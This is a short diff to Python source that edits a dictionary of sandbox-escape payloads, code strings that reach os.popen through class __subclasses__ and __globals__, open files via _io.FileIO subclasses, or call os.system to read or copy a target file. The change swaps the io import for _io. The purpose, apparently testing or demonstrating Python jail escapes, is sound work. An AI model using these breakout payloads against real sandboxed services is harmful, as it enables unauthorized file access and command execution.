@@ -61,7 +61,7 @@ ON_THE_WORLD = {
         "print(found[0].__init__.__globals__['popen']('cat ' + FILE).read())"
     ),
     "a class of raw files": (
-        "import io\nfound = [c for c in io.RawIOBase.__subclasses__() if c.__name__ == 'FileIO']\n"
+        "import _io\nfound = [c for c in _io._RawIOBase.__subclasses__() if c.__name__ == 'FileIO']\n"
         "print(found[0](FILE).read())"
     ),
     "a shell": "print(__import__('os').system('cp ' + FILE + ' ' + MADE))",
